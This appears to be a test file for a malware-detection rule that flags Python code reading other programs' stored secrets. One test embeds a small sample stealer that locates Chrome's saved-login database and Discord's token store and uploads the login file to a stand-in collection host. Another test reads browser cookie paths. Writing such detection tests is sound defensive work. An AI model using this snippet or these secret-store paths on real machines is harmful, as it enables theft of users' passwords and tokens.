"""Stored secrets of other programs."""

from lazaretto.detect.rules.python.reads_stores import RULE


def test_a_stealer(scan):
    text = r"""import os, requests
base = os.getenv("LOCALAPPDATA")
logins = os.path.join(base, "Google/Chrome/User Data/Default/Login Data")
tokens = os.path.join(base, "discord/Local Storage/leveldb")
requests.post("https://collect.example.test/", files={"a": open(logins, "rb")})
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "import")]


def test_a_reader_that_sends_nothing_is_context(scan):
    text = r"""import os
def cookies():
    return os.path.expanduser("~/.config/chromium/Default/Cookies"), os.path.expanduser("~/.mozilla/cookies.sqlite")
"""
    assert scan(RULE, text) == [(3, "LOW", "MEDIUM", "run")]


def test_near_miss_documentation(scan):
    text = r"""def f():
    "Reads nothing; see Login Data and leveldb in the manual."
"""
    assert scan(RULE, text) == []
